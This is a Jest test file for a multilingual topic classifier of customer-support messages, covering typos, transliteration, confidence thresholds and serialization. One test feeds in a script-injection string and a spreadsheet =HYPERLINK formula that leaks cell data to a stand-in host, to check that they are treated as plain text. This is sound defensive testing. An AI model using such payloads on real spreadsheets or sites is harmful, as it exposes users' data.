import { TopicClassifier } from '../../../nodes/shared/classifier';
import { SUPPORT_EXAMPLES } from './examples';

describe('a topic classifier trained on a few support messages in four languages', () => {
	const classifier = TopicClassifier.train(SUPPORT_EXAMPLES);

	it.each([
		['a Russian customer with a typo', 'где мой закказ??', 'order_status', 'ru'],
		['Russian typed in Latin letters', 'gde moy zakaz', 'order_status', 'ru'],
		['Latin-typed Russian with another spelling', 'kogda sleduyushchiy rozygrysh', 'next_draw', 'ru'],
		['a word mixing Latin and Cyrillic look-alike letters', 'Сколькo дeнег на счeту', 'balance', 'ru'],
		['a Ukrainian customer', 'скільки в мене грошей на рахунку', 'balance', 'uk'],
		['French without accents', 'je voudrais changer mon adresse de livraison', 'delivery_address', 'fr'],
		['French with a typo', 'rembourssement svp', 'refund', 'fr'],
		['English shouting', 'WHERE IS MY ORDER', 'order_status', 'en'],
		['English asking for a person', 'can i speak to a human operator', 'operator', 'en'],
		['Ukrainian with the wrong apostrophe', "з'єднайте з оператором будь ласка", 'operator', 'uk'],
	])('%s: "%s" is %s', (_scenario, text, topic, language) => {
		const result = classifier.classify(text);
		expect(result.topic).toBe(topic);
		expect(result.language).toBe(language);
	});

	it('gives a calibrated confidence with up to three alternatives, best first', () => {
		const result = classifier.classify('Where is my order?');
		expect(result.unsure).toBe(false);
		expect(result.alternatives).toHaveLength(3);
		expect(result.alternatives.map((a) => a.topic)).not.toContain('order_status');
		const confidences = [result.confidence, ...result.alternatives.map((a) => a.confidence)];
		expect([...confidences].sort((a, b) => b - a)).toEqual(confidences);
		expect(confidences.reduce((a, b) => a + b)).toBeLessThanOrEqual(1 + 1e-9);
	});

	it.each([
		'What is the weather in Paris tomorrow?',
		'Какая столица Австралии?',
		'Рецепт борща с пампушками',
	])('an out-of-domain message "%s" falls under the threshold and is flagged unsure', (text) => {
		const result = classifier.classify(text, 0.5);
		expect(result.unsure).toBe(true);
		expect(result.confidence).toBeLessThan(0.5);
	});

	it('the caller decides the threshold', () => {
		const text = 'где мой заказ';
		const { confidence } = classifier.classify(text);
		expect(classifier.classify(text, confidence - 0.01).unsure).toBe(false);
		expect(classifier.classify(text, confidence + 0.01).unsure).toBe(true);
	});

	it('round-trips through JSON with identical predictions', () => {
		const restored = TopicClassifier.fromJSON(JSON.parse(JSON.stringify(classifier)));
		for (const text of ['gde moy zakaz', 'Quel est mon solde', 'refund please', 'Рецепт борща', '']) {
			expect(restored.classify(text)).toEqual(classifier.classify(text));
		}
	});

	it('refuses a JSON document that is not a classifier', () => {
		expect(() => TopicClassifier.fromJSON({ ...classifier.toJSON(), format: 'something-else' } as never)).toThrow(/format/);
		expect(() => TopicClassifier.fromJSON({ ...classifier.toJSON(), weights: '' })).toThrow(/inconsistent/);
		// A model stored by an older version: refused, so the store retrains instead of misreading it.
		expect(() => TopicClassifier.fromJSON({ ...classifier.toJSON(), version: 1 } as never)).toThrow(/version/);
	});

	it('training is a pure function of the examples: the same list gives the same model', () => {
		expect(TopicClassifier.train(SUPPORT_EXAMPLES).toJSON()).toEqual(classifier.toJSON());
	});

	it("an operator's correction fed back with the examples changes the answer", () => {
		const text = 'посылка потерялась';
		const corrected = TopicClassifier.train([
			...SUPPORT_EXAMPLES,
			{ text, label: 'refund' },
			{ text: 'посылка потерялась, верните деньги', label: 'refund' },
		]);
		expect(corrected.classify(text).topic).toBe('refund');
	});

	it('HTML and spreadsheet formulas in training examples are learned as plain text', () => {
		const withMarkup = TopicClassifier.train([
			...SUPPORT_EXAMPLES,
			{ text: '<b>promo code</b> <script>alert(1)</script> does not work', label: 'promo_code' },
			{ text: '=HYPERLINK("http://evil.example/?leak="&A1,"promo code invalid")', label: 'promo_code' },
			{ text: 'my promo code is rejected', label: 'promo_code' },
		]);
		expect(withMarkup.topics).toContain('promo_code');
		expect(withMarkup.classify('the promo code does not work').topic).toBe('promo_code');
		expect(withMarkup.classify('=HYPERLINK("x","where is my order")').topic).toBe('order_status');
	});

	it('needs at least two topics to learn anything', () => {
		expect(() => TopicClassifier.train([{ text: 'hello', label: 'greeting' }])).toThrow(/two topics/);
	});
});
